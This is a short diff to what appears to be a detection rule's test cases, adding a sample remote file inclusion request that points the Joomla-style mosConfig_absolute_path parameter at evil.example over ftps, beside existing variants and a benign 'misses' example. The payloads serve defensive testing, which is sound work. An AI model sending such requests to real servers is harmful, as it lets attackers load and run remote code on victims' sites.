@@ -39,6 +39,7 @@ export default defineRule({
       'GET /index.php?mosConfig_absolute_path=http://evil.example/a.{} HTTP/1.1',
       'phtml inc dat log pl py cgi sh asp jsp',
     ),
+    'GET /index.php?mosConfig_absolute_path=ftps://evil.example/a.txt HTTP/1.1',
   ],
   misses: [
     'GET /share?url=https://news.example/story.php HTTP/1.1',
